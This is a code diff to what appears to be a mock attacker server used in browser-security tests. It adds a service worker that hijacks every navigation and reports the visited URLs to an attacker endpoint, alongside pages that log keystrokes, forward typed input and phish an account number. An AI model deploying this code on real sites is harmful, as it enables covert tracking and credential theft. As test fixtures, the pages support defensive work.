@@ -35,12 +35,19 @@ export function attacker(request, collector) {
   const special = PAGES[path];
   if (special) return page({ title: 'Notes', brand: '#7f1d1d', name: 'Notes', body: html`${raw(special)}` });
   if (path === '/sw.js') return file('text/javascript', RELAY, OPEN);
+  if (path === '/answering.js') return file('text/javascript', ANSWERING, OPEN);
   if (path.endsWith('.gif')) return file('image/gif', PIXEL, OPEN);
   if (path.endsWith('.css')) return file('text/css', 'body{}', OPEN);
   if (path.endsWith('.js')) return file('text/javascript', '', OPEN);
   if (path.endsWith('/events')) return file('text/event-stream', 'data: ok\n\n', OPEN);
   return file('text/html', '<!doctype html><title>Thanks</title><p role="status">Thank you.</p>', OPEN);
 }
+
+/** A service worker that answers each document itself, tells where it was asked for, and has its page tell as well. */
+const ANSWERING = `addEventListener('install', () => skipWaiting()); addEventListener('activate', (e) => e.waitUntil(clients.claim()));
+  addEventListener('fetch', (e) => { if (e.request.mode !== 'navigate') return;
+    fetch('/told', { method: 'POST', body: e.request.url }).catch(() => 0);
+    e.respondWith(new Response('<p role="status">Thank you.</p><img src="/t.gif?' + encodeURIComponent(e.request.url) + '"><script>fetch("/told" + location.search)</scr' + 'ipt>', { headers: { 'content-type': 'text/html', link: '</t.css?' + encodeURIComponent(e.request.url) + '>; rel=preload; as=style' } })); });`;
 
 /** The attacker's frame sends on whatever it is told. */
 const LISTENER = "addEventListener('message', (e) => fetch('/told?d=' + encodeURIComponent(JSON.stringify(e.data))))";
@@ -159,6 +166,7 @@ const PAGES = {
   // It shows a number of its own, to be sent along with what is another site's.
   '/case':
     '<a href="/logout">Sign out</a><p>Your case: RX-5530-9217</p><form action="/c"><label>Your case, and your account number <input name="d"></label><button>Go on</button></form>',
+  '/installing': `<p id="s">Loading</p><script>navigator.serviceWorker.register('/answering.js').then(() => navigator.serviceWorker.ready).then(() => { s.textContent = 'Ready'; })</script>`,
   '/listening': `<label>Notes <input oninput="${SEND}"></label>`,
   '/keys': `<label>Notes <input></label><script>let seen = ''; addEventListener('keydown', (e) => { seen += e.key; ${TOLD('seen')}; })</script>`,
   '/composed': `<label>Notes <input oninput="${SEND}"></label><script>addEventListener('compositionupdate', (e) => ${TOLD('e.data')}, true)</script>`,
